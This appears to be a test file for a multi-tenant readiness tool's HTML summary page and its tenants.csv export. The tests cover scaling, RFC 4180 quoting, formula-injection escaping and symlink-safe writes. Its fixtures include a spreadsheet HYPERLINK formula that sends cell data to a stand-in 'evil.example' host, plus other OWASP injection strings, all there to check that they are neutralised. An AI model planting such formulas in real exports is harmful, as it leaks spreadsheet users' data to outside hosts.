/**
 * The go-live page at scale (issue 18): above SUMMARY_THRESHOLD tenants the page is a summary whose
 * size does not grow with the tenants, and every tenant's row is in tenants.csv (RFC 4180, safe
 * against formula injection) beside the page.
 */
import assert from 'node:assert/strict';
import { lstat, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, test } from 'node:test';
import { stringify } from 'yaml';
import { runChecks } from '../src/checks/run.js';
import { parseManifest } from '../src/manifest/load.js';
import { buildModel } from '../src/manifest/model.js';
import { csv, csvField } from '../src/report/csv.js';
import { TENANT_COLUMNS, renderTenantsCsv } from '../src/report/csv-tenants.js';
import { DECIDING_CAP } from '../src/report/html-budget-summary.js';
import { budgetMax } from '../src/report/html-budgets.js';
import { SUMMARY_THRESHOLD, quantile, tenantRows } from '../src/report/html-tenant-rows.js';
import { FINDINGS_CAP, renderHtml } from '../src/report/html.js';
import { example, runInProcess } from './helpers/cli.js';
import { assertGolden } from './helpers/golden.js';
import { base } from './helpers/manifest.js';
import { pageOf, scaled, scaledSource, scaledUnparsed } from './helpers/scaled.js';

const SUMMARY_NOTE = /Every tenant's row is in <code>tenants\.csv<\/code> beside this page/;

describe('html page at scale: the summary above 200 tenants', () => {
  test('200 tenants: every tenant drawn, as before; 201: the summary, naming tenants.csv', () => {
    assert.equal(SUMMARY_THRESHOLD, 200);
    const at = pageOf(scaled(200));
    assert.match(at, /<div class="cards">/, 'one card per tenant at 200');
    assert.equal((at.match(/<div class="card">/g) ?? []).length, 200);
    assert.doesNotMatch(at, SUMMARY_NOTE);
    const over = pageOf(scaled(201));
    assert.doesNotMatch(over, /<div class="card">/, 'no card per tenant at 201');
    assert.match(over, SUMMARY_NOTE);
    assert.match(over, /This deployment has <strong>201 tenants<\/strong>, more than the 200/);
  });

  test('the summary lists the tenants that decide the verdict, the largest by spend and by peak share, and the distribution', () => {
    const loaded = scaled(1000);
    const model = buildModel(loaded.manifest);
    const report = runChecks(loaded, undefined, model);
    const html = renderHtml(report, model);
    const rows = tenantRows(report, model);
    const fails = rows.filter((r) => r.status === 'fail').length;
    const warns = rows.filter((r) => r.status === 'warn').length;
    assert.ok(fails > DECIDING_CAP, 'the fixture has more failing tenants than are listed');
    // the failing first, in manifest order, capped, and the rest counted
    assert.match(html, new RegExp(`Failing and warning tenants: ${DECIDING_CAP} of ${fails + warns} shown \\(${fails} fail, ${warns} warn\\)`));
    assert.match(html, new RegExp(`<strong>${fails + warns - DECIDING_CAP} more</strong> failing or warning tenants`));
    assert.match(html, /<code>tenant-3<\/code>/, 'the first tenant without a budget is listed');
    // status counts add up to every tenant
    assert.match(html, new RegExp(`FAIL</span></th><td>${fails}</td>`));
    assert.match(html, new RegExp(`PASS</span></th><td>${rows.length - fails - warns}</td>`));
    // the largest by projected spend: tenants with i % 50 === 49 spend the most (590 requests a day)
    assert.match(html, /The 10 largest tenants by projected spend, against budget/);
    assert.match(html, /<th scope="row"><code>tenant-49<\/code><\/th><td>590<\/td>/);
    // by peak share: rpm limit 44 is the largest (i % 40 === 39), tenant-39 first
    const peak = (model.peakRpm as number).toLocaleString('en-US');
    assert.match(html, new RegExp(`share of the ${peak} rpm peak[\\s\\S]*?<code>tenant-39</code></th><td>team-39</td><td>44</td>`));
    // spend quantiles (nearest rank) over the projectable tenants
    const spend = rows.map((r) => r.p.projectedMonthlyUsd as number).sort((a, b) => a - b);
    assert.equal(quantile(spend, 0.5), spend[499]);
    assert.match(html, /Median \(p50\)<\/th><td>\$/);
    // findings are capped per check, the rest counted
    assert.match(html, /more findings<\/strong> of this check are not shown/);
    for (const art of html.split('<article ').slice(1)) assert.ok((art.match(/<li class="finding /g) ?? []).length <= FINDINGS_CAP);
  });

  test('the full page\'s budget axis holds any number of rows (Math.max over a spread threw RangeError at 50,000)', () => {
    const rows = Array.from({ length: 200_000 }, (_, i) => ({ label: `t${i}`, text: '', cls: 'bar ok', value: i % 1000, marks: [{ at: 1000 + (i % 7), cls: 'mark-100', label: '' }] }));
    assert.equal(budgetMax(rows), 1006 * 1.05);
  });

  test('50,000 tenants render without error in summary mode, and the page does not grow with the tenants', () => {
    // the budget chart once crashed here: Math.max over a spread of 50,000 values is a RangeError
    const big = pageOf(scaledUnparsed(50_000));
    const small = pageOf(scaledUnparsed(1000));
    assert.match(big, SUMMARY_NOTE);
    assert.match(big, /This deployment has <strong>50,000 tenants<\/strong>/);
    // bytes per tenant are O(1) in total: 50 times the tenants, the same page give or take the digits
    assert.ok(big.length < 200_000, `the 50,000-tenant page is ${big.length} bytes`);
    assert.ok(Math.abs(big.length - small.length) < 2048, `50,000 tenants: ${big.length} bytes; 1,000: ${small.length}`);
    assert.equal((big.match(/<tr/g) ?? []).length, (small.match(/<tr/g) ?? []).length, 'as many table rows at 50,000 as at 1,000');
  });
});

describe('tenants.csv', () => {
  test('is the library API too: renderTenantsCsv and SUMMARY_THRESHOLD from the package entry', async () => {
    const api = await import('../src/index.js');
    assert.equal(api.renderTenantsCsv, renderTenantsCsv);
    assert.equal(api.SUMMARY_THRESHOLD, SUMMARY_THRESHOLD);
    assert.equal(api.TENANTS_CSV, 'tenants.csv');
  });

  test('RFC 4180: a header, CRLF after every record, quoting where a field needs it', () => {
    assert.equal(csv(['a', 'b'], [['x,y', 'say "hi"'], ['line\nbreak', 3]]), 'a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak",3\r\n');
    assert.equal(csvField(undefined), '');
    assert.equal(csvField(0.5), '0.5');
  });

  test('formula injection: a field starting with = + - @ tab CR or LF is prefixed with a quote (OWASP)', () => {
    for (const [input, out] of [
      ['=1+2', "'=1+2"],
      ['+1', "'+1"],
      ['-1', "'-1"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\tx', "'\tx"],
      ['\rx', `"'\rx"`],
      ['\nx', `"'\nx"`],
      // OWASP's two examples
      ['=1+2";=1+2', `"'=1+2"";=1+2"`],
      ["=1+2'\" ;,=1+2", `"'=1+2'"" ;,=1+2"`],
      // not at the start: left alone
      ['a=1', 'a=1'],
      ["'=1", "'=1"],
    ]) {
      assert.equal(csvField(input), out, JSON.stringify(input));
    }
  });

  test('a hostile team name stays text in tenants.csv (ids are slugs, so the free text is the team)', () => {
    const m = base('compliant') as { tenants: Array<Record<string, unknown>> };
    m.tenants[0].team = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    m.tenants[1].team = '@cmd';
    const loaded = parseManifest(stringify(m), 'evil.yaml');
    const model = buildModel(loaded.manifest);
    const lines = renderTenantsCsv(runChecks(loaded, undefined, model), model).split('\r\n');
    assert.ok(lines[1].startsWith(`research,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`), lines[1]);
    assert.ok(lines[2].startsWith(`operations,'@cmd,`), lines[2]);
  });

  test('golden: incident 2 (tenants without budgets), one row per tenant with the page\'s figures', async () => {
    const rel = 'templates/examples/incident-2-no-team-ceilings.yaml';
    const loaded = parseManifest(await readFile(example('incident-2-no-team-ceilings.yaml')), rel);
    const model = buildModel(loaded.manifest);
    const text = renderTenantsCsv(runChecks(loaded, undefined, model), model);
    assert.equal(text.split('\r\n')[0], TENANT_COLUMNS.join(','));
    assert.equal(text.split('\r\n').length - 2, model.tenants.length, 'one record per tenant, CRLF-terminated');
    await assertGolden('csv', [{ path: 'incident-2-no-team-ceilings.tenants.csv', content: text }]);
  });
});

describe('tenants.csv on disk: readiness check', () => {
  const tmp = async (t: { after: (fn: () => Promise<void>) => void }) => {
    const dir = await mkdtemp(path.join(tmpdir(), 'readiness-scale-'));
    t.after(() => rm(dir, { recursive: true, force: true }));
    return dir;
  };

  test('--out-dir writes tenants.csv beside report.html, whatever the number of tenants', async (t) => {
    const dir = await tmp(t);
    const r = await runInProcess(['check', example('compliant.yaml'), '--format', 'json', '--out-dir', path.join(dir, 'out')], {}, dir);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /wrote .*out\/tenants\.csv\n/);
    const text = await readFile(path.join(dir, 'out', 'tenants.csv'), 'utf8');
    assert.match(text, /^tenant,team,status,/);
    assert.match(text, /\r\nresearch,research,pass,/);
  });

  test('--format html=FILE: tenants.csv beside FILE only in summary mode (201 tenants, not 200)', async (t) => {
    const dir = await tmp(t);
    for (const n of [200, 201]) {
      await writeFile(path.join(dir, `m${n}.yaml`), scaledSource(n));
      const r = await runInProcess(['check', `m${n}.yaml`, '--format', `html=p${n}/go-live.html`], {}, dir);
      assert.ok(r.code === 0 || r.code === 1, r.stderr);
      assert.deepEqual((await readdir(path.join(dir, `p${n}`))).sort(), n > 200 ? ['go-live.html', 'tenants.csv'] : ['go-live.html']);
    }
    const csvText = await readFile(path.join(dir, 'p201', 'tenants.csv'), 'utf8');
    assert.equal(csvText.split('\r\n').length - 2, 201);
  });

  test('a link at tenants.csv is replaced by the file, never written through; the manifest itself is never replaced', async (t) => {
    const dir = await tmp(t);
    await mkdir(path.join(dir, 'out'));
    await writeFile(path.join(dir, 'precious.txt'), 'keep me\n');
    await symlink(path.join(dir, 'precious.txt'), path.join(dir, 'out', 'tenants.csv'));
    const r = await runInProcess(['check', example('compliant.yaml'), '--format', 'json', '--out-dir', 'out'], {}, dir);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(await readFile(path.join(dir, 'precious.txt'), 'utf8'), 'keep me\n', 'the link target is untouched');
    assert.ok((await lstat(path.join(dir, 'out', 'tenants.csv'))).isFile(), 'the link is replaced by a regular file');
    // a manifest that sits where tenants.csv would go
    await mkdir(path.join(dir, 'in'));
    const manifest = path.join(dir, 'in', 'tenants.csv');
    await writeFile(manifest, await readFile(example('compliant.yaml')));
    const again = await runInProcess(['check', manifest, '--format', 'json', '--out-dir', 'in'], {}, dir);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /cannot write in\/tenants\.csv: it is .*an input of this run/);
    assert.deepEqual(await readdir(path.join(dir, 'in')), ['tenants.csv'], 'nothing written');
  });

  test('a --format target at tenants.csv beside the page is refused before anything is written (exit 2)', async (t) => {
    const dir = await tmp(t);
    const r = await runInProcess(['check', example('compliant.yaml'), '--format', 'json=out/tenants.csv', '--out-dir', 'out'], {}, dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /out\/tenants\.csv is where readiness writes the tenants' rows/);
    assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
    assert.deepEqual(await readdir(dir), [], 'nothing written');
  });
});
